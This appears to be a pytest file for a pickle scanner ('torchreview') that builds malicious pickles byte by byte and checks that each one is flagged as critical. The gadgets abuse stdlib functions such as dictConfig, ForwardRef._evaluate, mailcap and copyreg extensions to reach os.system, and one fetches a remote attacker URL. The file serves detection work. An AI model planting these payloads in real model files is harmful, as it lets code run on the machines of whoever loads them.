"""Code-execution gadgets that are on no deny-list: every call is classified from source.

Each pickle is written opcode by opcode here (``artifact_craft``); nothing is ever
pickled from a live object or loaded.  The scanner runs with pickle's loaders
replaced by a trap.
"""

from __future__ import annotations

import struct

import pytest

import artifact_craft as craft
from artifact_craft import (
    BUILD, EMPTY_DICT, EMPTY_TUPLE, MARK, NEWOBJ, NONE, POP, PROTO, REDUCE, STACK_GLOBAL, STOP,
    TUPLE, TUPLE1, TUPLE2, glob, ustr,
)
from torchreview.findings import Severity

SETITEMS, K1 = b"u", b"K\x01"


def dotted(module: str, name: str) -> bytes:
    """A protocol-4 global by STACK_GLOBAL (dotted names resolve attribute by attribute)."""
    return ustr(module) + ustr(name) + STACK_GLOBAL


def args(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def shown(code: str) -> bytes:
    return ustr(code)


def dict_config() -> bytes:
    handler = EMPTY_DICT + MARK + ustr("()") + ustr("os.system") + ustr("command") + ustr(
        craft.COMMAND) + SETITEMS
    config = (EMPTY_DICT + MARK + ustr("version") + K1 + ustr("handlers") + EMPTY_DICT + MARK
              + ustr("h") + handler + SETITEMS + SETITEMS)
    return PROTO(2) + glob("logging.config", "dictConfig") + MARK + config + TUPLE + REDUCE + STOP


def create_fn() -> bytes:
    body = MARK + ustr("import os; os.system('id')") + b"l"  # LIST
    return PROTO(2) + glob("dataclasses", "_create_fn") + args(
        ustr("f"), EMPTY_TUPLE, body) + REDUCE + STOP


def forward_ref_evaluate() -> bytes:
    ref = glob("typing", "ForwardRef") + args(ustr("__import__('os').system('id')")) + REDUCE
    call = dotted("typing", "ForwardRef._evaluate") + args(
        ref, EMPTY_DICT, EMPTY_DICT, b"\x8f") + REDUCE  # EMPTY_SET as recursive_guard
    return PROTO(4) + call + STOP


def simple(module: str, name: str, *values: str) -> callable:
    return lambda: PROTO(2) + glob(module, name) + args(*(ustr(v) for v in values)) + REDUCE + STOP


def mailcap_findmatch() -> bytes:
    entry = EMPTY_DICT + MARK + ustr("view") + ustr("sh -c id") + SETITEMS
    caps = EMPTY_DICT + MARK + ustr("text/plain") + MARK + entry + b"l" + SETITEMS
    return PROTO(2) + glob("mailcap", "findmatch") + args(caps, ustr("text/plain")) + REDUCE + STOP


def grammar_loads() -> bytes:
    grammar = glob("lib2to3.pgen2.grammar", "Grammar") + EMPTY_TUPLE + REDUCE
    call = dotted("lib2to3.pgen2.grammar", "Grammar.loads") + args(
        grammar, binbytes(craft.os_system_reduce())) + REDUCE
    return PROTO(4) + call + STOP


def shelve_codecs() -> bytes:
    nested = craft.os_system_reduce().decode("latin-1")
    raw = glob("_codecs", "decode") + args(ustr(nested), ustr("latin1")) + REDUCE
    shelf = glob("shelve", "Shelf") + args(EMPTY_DICT + ustr("k") + raw + b"s") + REDUCE
    return PROTO(4) + dotted("shelve", "Shelf.get") + args(shelf, ustr("k")) + REDUCE + STOP


def add_extension_ext2(module: str = "os", name: str = "system") -> bytes:
    register = glob("copyreg", "add_extension") + args(ustr(module), ustr(name), b"M\x34\x12")
    return (PROTO(2) + register + REDUCE + POP + b"\x83\x34\x12"  # EXT2 0x1234
            + args(ustr(craft.COMMAND)) + REDUCE + STOP)


def model_zoo() -> bytes:
    return simple("torch.utils.model_zoo", "load_url", "https://attacker.invalid/x.pth")()


def path_write_text() -> bytes:
    path = glob("pathlib", "Path") + args(ustr("/tmp/torchreview-never-written")) + REDUCE
    call = dotted("pathlib", "Path.write_text") + args(path, ustr("data")) + REDUCE
    return PROTO(4) + call + STOP


GADGETS = {
    # name: (builder, names the critical message must contain)
    "logging.config.dictConfig '()' factory": (dict_config, ["logging.config.dictConfig"]),
    "dataclasses._create_fn": (create_fn, ["dataclasses._create_fn"]),
    "typing.ForwardRef._evaluate": (forward_ref_evaluate, ["typing.ForwardRef._evaluate"]),
    "doctest.debug_src": (simple("doctest", "debug_src", ">>> import os"), ["doctest.debug_src"]),
    "uuid._get_command_stdout": (simple("uuid", "_get_command_stdout", "sh", "-c", "id"),
                                 ["uuid._get_command_stdout"]),
    "_osx_support._read_output": (simple("_osx_support", "_read_output", "id"),
                                  ["_osx_support._read_output"]),
    "mailcap.findmatch": (mailcap_findmatch, ["mailcap.findmatch"]),
    "lib2to3 Grammar.loads": (grammar_loads, ["lib2to3.pgen2.grammar.Grammar.loads", "os.system"]),
    "shelve + _codecs.decode nested pickle": (shelve_codecs,
                                              ["_codecs.decode", "shelve.Shelf.get", "os.system"]),
    "copyreg.add_extension + EXT2": (add_extension_ext2, ["copyreg.add_extension", "os.system (EXT2"]),
    "torch.utils.model_zoo.load_url": (model_zoo, ["torch.utils.model_zoo.load_url"]),
    "pathlib.Path.write_text": (path_write_text, ["pathlib.Path.write_text"]),
}


def _scan(tmp_path, monkeypatch, data: bytes, name: str = "gadget.pkl"):
    path = tmp_path / name
    path.write_bytes(data)
    return craft.scan(path, None, monkeypatch)


@pytest.mark.parametrize("case", sorted(GADGETS))
def test_gadget_is_critical(case, tmp_path, monkeypatch):
    build, names = GADGETS[case]
    findings, errors = _scan(tmp_path, monkeypatch, build())
    assert errors == []
    critical = " ".join(f.message for f in findings if f.severity is Severity.CRITICAL)
    assert critical, [f.message for f in findings]
    for name in names:
        assert name in critical, (name, critical)


@pytest.mark.parametrize("case,reason", [
    ("dataclasses._create_fn", "not a class: a function defined at"),
    ("typing.ForwardRef._evaluate", "a method of the class ForwardRef"),
    ("pathlib.Path.write_text", "a method of the class Path"),
])
def test_critical_message_gives_the_reason(case, reason, tmp_path, monkeypatch):
    findings, _ = _scan(tmp_path, monkeypatch, GADGETS[case][0]())
    assert any(reason in f.message for f in findings), [f.message for f in findings]


def test_gadget_through_protocol0_inst(tmp_path, monkeypatch):
    data = MARK + craft.text0(">>> import os") + craft.inst("doctest", "debug_src") + STOP
    findings, _ = _scan(tmp_path, monkeypatch, data)
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "doctest.debug_src (INST" in findings[0].message


def test_extension_registered_in_one_pickle_used_in_the_next(tmp_path, monkeypatch):
    register = (PROTO(2) + glob("copyreg", "add_extension")
                + args(ustr("doctest"), ustr("debug_src"), b"K\x07") + REDUCE + STOP)
    use = PROTO(2) + b"\x82\x07" + args(ustr(">>> 1")) + REDUCE + STOP  # EXT1 7
    findings, _ = _scan(tmp_path, monkeypatch, register + use)
    second = [f for f in findings if "pickle #2" in f.message]
    assert second and second[0].severity is Severity.CRITICAL
    assert "doctest.debug_src (EXT1" in second[0].message


def test_unregistered_extension_called_is_critical(tmp_path, monkeypatch):
    data = PROTO(2) + b"\x83\x34\x12" + args(ustr("x")) + REDUCE + STOP
    findings, _ = _scan(tmp_path, monkeypatch, data)
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "extension code 4660" in findings[0].message


def test_unregistered_extension_not_called_stays_medium(tmp_path, monkeypatch):
    findings, _ = _scan(tmp_path, monkeypatch, PROTO(2) + b"\x83\x34\x12" + STOP)
    assert [f.severity for f in findings] == [Severity.MEDIUM]


def test_function_of_an_unknown_module_called_is_critical(tmp_path, monkeypatch):
    findings, _ = _scan(tmp_path, monkeypatch, simple("notinstalled.tools", "make", "x")())
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "cannot be shown to be a class" in findings[0].message


def test_name_bound_by_assignment_called_is_critical(tmp_path, monkeypatch):
    # pickle.py: "dumps = ..."? No: a plain assignment that is not an alias.
    (tmp_path / "pkgx").mkdir()
    (tmp_path / "pkgx" / "__init__.py").write_text("make = lambda cmd: cmd\n")
    monkeypatch.chdir(tmp_path)
    findings, _ = _scan(tmp_path, monkeypatch, simple("pkgx", "make", "x")())
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "bound by an assignment" in findings[0].message


def test_calling_the_result_of_a_call_is_critical(tmp_path, monkeypatch):
    inner = glob("argparse", "Namespace") + EMPTY_TUPLE + REDUCE
    data = PROTO(2) + inner + args(ustr("x")) + REDUCE + STOP
    findings, _ = _scan(tmp_path, monkeypatch, data)
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "argparse.Namespace()" in findings[0].message


# -- near misses: rebuilding classes needs trust, it is not code execution ----------------
CLASSES = {
    "installed class by REDUCE": simple("argparse", "Namespace"),
    "stdlib class by REDUCE": simple("pathlib", "PosixPath", "/tmp/x"),
    "class re-exported by an import": simple("torch.nn", "Linear"),
    "class found through a .pyi stub": simple("torch._C", "Generator"),
    "class in a project module": simple("pkgy.models", "Net"),
    "uninstalled class by NEWOBJ": lambda: craft.custom_class_pickle(),
    "class with __setstate__ rebuilt and BUILT": lambda: (
        PROTO(2) + glob("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE + NEWOBJ
        + EMPTY_DICT + BUILD + STOP),
    "copyreg._reconstructor of an uninstalled class": lambda: (
        PROTO(2) + glob("copy_reg", "_reconstructor")
        + args(glob("mypackage", "Thing"), glob("__builtin__", "object"), NONE) + REDUCE
        + EMPTY_DICT + BUILD + STOP),
    "numpy rebuilder next to a project class": lambda: (
        PROTO(2) + glob("numpy.core.multiarray", "scalar")
        + args(glob("numpy", "dtype") + args(ustr("f8"), b"\x89", b"\x88") + REDUCE,
               binbytes(bytes(8))) + REDUCE
        + glob("pkgy.models", "Net") + EMPTY_TUPLE + REDUCE + TUPLE2 + STOP),
}


@pytest.mark.parametrize("case", sorted(CLASSES))
def test_class_reconstruction_is_medium(case, tmp_path, monkeypatch):
    (tmp_path / "pkgy").mkdir()
    (tmp_path / "pkgy" / "__init__.py").write_text("")
    (tmp_path / "pkgy" / "models.py").write_text("class Net:\n    pass\n")
    monkeypatch.chdir(tmp_path)
    findings, errors = _scan(tmp_path, monkeypatch, CLASSES[case]())
    assert errors == []
    assert [f.severity for f in findings] == [Severity.MEDIUM], [f.message for f in findings]
    assert "needs trust" in findings[0].message


def test_numpy_data_rebuilders_alone_are_low_advice(tmp_path, monkeypatch):
    # np.float64 / np.ndarray in a pickle: scalar, dtype and _reconstruct only rebuild
    # data (what numpy.load(allow_pickle=True) itself needs), no code runs: not a trust
    # question, only a weights-only load refusing the file (advice, hidden by default)
    scalar = (PROTO(2) + glob("numpy.core.multiarray", "scalar")
              + args(glob("numpy", "dtype") + args(ustr("f8"), b"\x89", b"\x88") + REDUCE,
                     binbytes(bytes(8))) + REDUCE + STOP)
    findings, errors = _scan(tmp_path, monkeypatch, scalar)
    assert errors == []
    assert [(f.severity, f.kind) for f in findings] == [(Severity.LOW, "advice")], findings
    assert "numpy.core.multiarray.scalar" in findings[0].message and "no code runs" in findings[0].message
    # the same globals next to a code-running call stay critical
    evil = scalar[:-1] + glob("os", "system") + args(ustr("id")) + REDUCE + TUPLE2 + STOP
    findings, _ = _scan(tmp_path, monkeypatch, evil, "evil.pkl")
    assert findings and findings[0].severity is Severity.CRITICAL


def test_copyreg_reconstructor_of_a_function_is_critical(tmp_path, monkeypatch):
    # base.__init__ runs when base is not object: a function there is judged as a call.
    data = (PROTO(2) + glob("copyreg", "_reconstructor")
            + args(glob("argparse", "Namespace"), glob("os", "system"), ustr("id")) + REDUCE + STOP)
    findings, _ = _scan(tmp_path, monkeypatch, data)
    assert [f.severity for f in findings] == [Severity.CRITICAL]


def test_nested_pickle_in_bytes_is_walked(tmp_path, monkeypatch):
    data = PROTO(3) + binbytes(craft.os_system_reduce()) + STOP
    findings, _ = _scan(tmp_path, monkeypatch, data)
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "pickle inside a string at byte 2" in findings[0].message
    assert "os.system" in findings[0].message


def test_callable_passed_to_an_allowed_rebuild_helper_is_judged_as_called(tmp_path, monkeypatch):
    # torch._tensor._rebuild_from_type_v2(func, new_type, args, state) runs func(*args).
    data = (PROTO(2) + glob("torch._tensor", "_rebuild_from_type_v2")
            + args(glob("doctest", "debug_src"), glob("torch", "Tensor"),
                   args(ustr(">>> 1")), NONE) + REDUCE + STOP)
    findings, _ = _scan(tmp_path, monkeypatch, data)
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "doctest.debug_src" in findings[0].message
    assert "called by torch._tensor._rebuild_from_type_v2" in findings[0].message


def test_allowed_rebuild_helper_with_an_allowed_function_is_clean(tmp_path, monkeypatch):
    data = (PROTO(2) + glob("torch._tensor", "_rebuild_from_type_v2")
            + args(glob("torch._utils", "_rebuild_tensor_v2"), glob("torch", "Tensor"),
                   EMPTY_TUPLE, NONE) + REDUCE + STOP)
    findings, errors = _scan(tmp_path, monkeypatch, data)
    assert (findings, errors) == ([], [])


def _long_nested() -> bytes:
    """A nested os.system pickle longer than the kept-string limit (padding inside)."""
    return PROTO(2) + b"N0" * 2000 + craft.os_system_reduce()[2:]


def test_long_nested_pickle_in_bytes_is_walked(tmp_path, monkeypatch):
    data = PROTO(3) + binbytes(_long_nested()) + STOP
    findings, _ = _scan(tmp_path, monkeypatch, data)
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "os.system" in findings[0].message


def test_long_nested_pickle_in_utf8_text_is_walked(tmp_path, monkeypatch):
    # Protocol 2 writes bytes as _codecs.encode(<latin-1 text>, 'latin1'): UTF-8 on disk.
    text = _long_nested().decode("latin-1").encode("utf-8")
    data = (PROTO(2) + glob("_codecs", "encode") + b"X" + struct.pack("<I", len(text)) + text
            + ustr("latin1") + TUPLE2 + REDUCE + STOP)
    findings, _ = _scan(tmp_path, monkeypatch, data)
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "pickle inside a string" in findings[0].message


def test_pickled_blob_of_a_class_stored_as_data_stays_silent(tmp_path, monkeypatch):
    # A state dict holding bytes that are a pickle of a user class: a weights-only
    # load accepts the file; the blob only matters if something unpickles it.
    blob = PROTO(2) + glob("mypackage", "Net") + EMPTY_TUPLE + NEWOBJ + STOP
    data = PROTO(3) + EMPTY_DICT + ustr("blob") + binbytes(blob) + b"s" + STOP
    assert _scan(tmp_path, monkeypatch, data) == ([], [])


def test_truncated_pickle_like_bytes_are_not_an_error(tmp_path, monkeypatch):
    data = PROTO(3) + binbytes(b"\x80\x02cos\nsystem\n") + POP + NONE + STOP  # no STOP inside
    findings, errors = _scan(tmp_path, monkeypatch, data)
    assert errors == []
    assert [f.severity for f in findings] == [Severity.CRITICAL]  # os.system is still named
